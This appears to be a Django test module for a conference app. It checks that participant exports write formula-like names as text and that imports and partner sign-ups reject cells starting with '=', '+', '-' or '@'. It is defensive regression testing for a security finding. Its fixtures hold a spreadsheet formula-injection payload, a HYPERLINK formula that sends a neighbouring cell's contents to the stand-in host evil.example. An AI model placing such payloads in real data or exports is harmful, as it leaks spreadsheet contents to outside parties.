"""Exports are data, never formulas (finding 1 of "Venue-proof II"): a partner signed up as
`=HYPERLINK("http://evil.example/?d="&B2,"Open")` of `=1+1 Org` was exported as live formula cells in Excel and raw in
CSV, and the people import took cells starting with "=", "+" or "@"."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from lxml import html

from conference.models import Organisation, Participant
from groups.models import BreakoutGroup, GroupPartner
from tests.conference.test_people import HEADER, csv_file, row_errors, upload
from tests.html_forms import form_data

pytestmark = pytest.mark.django_db

EXPORT = "/admin/conference/participant/export/"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


@pytest.fixture
def formula_partners(caribbean):
    """People whose names and organisations spreadsheets would read as formulas (as the sign-up form let in)."""
    rows = [
        (HYPERLINK, "=1+1 Org"),
        ("+1+1", "@SUM(1+1)"),
        ("-2+3", "==1+1"),
        ("Plain Name", "A - B agency"),
    ]
    for name, organisation in rows:
        Participant.objects.create(
            conference=caribbean,
            full_name=name,
            organisation=Organisation.objects.create(conference=caribbean, name=organisation),
            function="=1+1 Director" if name == "Plain Name" else "",
        )


def xlsx_text(rows):
    """An Excel file whose cells are all text, as when "'=1+1" is typed in Excel. (A formula cell is read as the value
    Excel last computed for it, never as the formula.)"""
    book = openpyxl.Workbook()
    sheet = book.active
    for row_number, row in enumerate([HEADER, *rows], start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_number, column=column)
            cell.value = value or None
            cell.data_type = "s"
    data = io.BytesIO()
    book.save(data)
    return SimpleUploadedFile("people.xlsx", data.getvalue())


def export(client, file_format):
    data = form_data(client.get(EXPORT))
    data.update(format={"csv": "0", "xlsx": "1"}[file_format])
    return client.post(EXPORT, data)


# The columns after the organisation: language, function, listed.
EXPORTED = [
    HEADER,
    [f"'{HYPERLINK}", "", "", "'=1+1 Org", "", "", "yes"],
    ["'+1+1", "", "", "'@SUM(1+1)", "", "", "yes"],
    ["'-2+3", "", "", "'==1+1", "", "", "yes"],
    ["Plain Name", "", "", "A - B agency", "", "'=1+1 Director", "yes"],
]


def test_the_csv_export_writes_formulas_as_text(organiser_client, formula_partners):
    response = export(organiser_client, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert sorted(rows[1:]) == sorted(EXPORTED[1:])
    assert rows[0] == [*HEADER, "language", "function", "listed"]


def test_the_excel_export_writes_formulas_as_text(organiser_client, formula_partners):
    response = export(organiser_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for row in cells for cell in row if cell.value is not None] == ["s"] * 13
    values = [[cell.value or "" for cell in row] for row in cells]
    assert sorted(values) == sorted(EXPORTED[1:])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_import_refuses_cells_that_spreadsheets_read_as_formulas_and_names_them(
    organiser_client, caribbean, file_format
):
    rows = [
        ["Ann", "ann@example.org", "Jamaica", ""],
        [HYPERLINK, "pat@example.org", "", "World Bank"],
        ["Bea", "bea@example.org", "", "=1+1 Org"],
        ["Cy", "@cy@example.org", "Jamaica", ""],
        ["\t+Dee", "dee@example.org", "-JM", ""],
    ]
    file = csv_file(rows) if file_format == "csv" else xlsx_text(rows)
    response = upload(organiser_client, caribbean, file, file_format)
    formula = "which spreadsheets read as the start of a formula."
    assert row_errors(response) == {
        2: [f"name: “{HYPERLINK}”: This may not start with “=”, {formula}"],
        3: [f"organisation: “=1+1 Org”: This may not start with “=”, {formula}"],
        4: [f"email: “@cy@example.org”: This may not start with “@”, {formula}"],
        5: [
            f"country: “-JM”: This may not start with “-”, {formula}",
            f"name: “+Dee”: This may not start with “+”, {formula}",
        ],
    }
    assert (Participant.objects.count(), Organisation.objects.filter(name="=1+1 Org").count()) == (0, 0)


@pytest.mark.parametrize(
    ("full_name", "organisation", "errors"),
    [
        (
            HYPERLINK,
            "=1+1 Org",
            {
                "full_name": ["This may not start with “=”, which spreadsheets read as the start of a formula."],
                "organisation": ["This may not start with “=”, which spreadsheets read as the start of a formula."],
            },
        ),
        (
            "+Pat",
            "@Agency",
            {
                "full_name": ["This may not start with “+”, which spreadsheets read as the start of a formula."],
                "organisation": ["This may not start with “@”, which spreadsheets read as the start of a formula."],
            },
        ),
        (
            "-Pat",
            "\t=Agency",
            {
                "full_name": ["This may not start with “-”, which spreadsheets read as the start of a formula."],
                "organisation": ["This may not start with “=”, which spreadsheets read as the start of a formula."],
            },
        ),
        ("Pat - Partner", "Agency-1 + 2", {}),
    ],
)
def test_the_partner_signup_refuses_names_that_spreadsheets_read_as_formulas(
    client, caribbean, full_name, organisation, errors
):
    group = BreakoutGroup.objects.get(number=3)
    data = {"full_name": full_name, "organisation": organisation, "email": "pat@example.org", "group": group.pk}
    response = client.post("/caribbean/groups/join/", data)
    if not errors:  # accepted: a confirmation link is mailed, and nothing is stored until it is followed
        assert response.status_code == 302
        assert (Participant.objects.count(), GroupPartner.objects.count()) == (0, 0)
        return
    assert response.status_code == 200
    assert response.context["form"].errors == errors
    page = html.fromstring(response.content)
    assert [page.get_element_by_id(f"id_{name}").value for name in ("full_name", "organisation", "email")] == [
        full_name,
        organisation,
        "pat@example.org",
    ]
    assert (Participant.objects.count(), GroupPartner.objects.count()) == (0, 0)
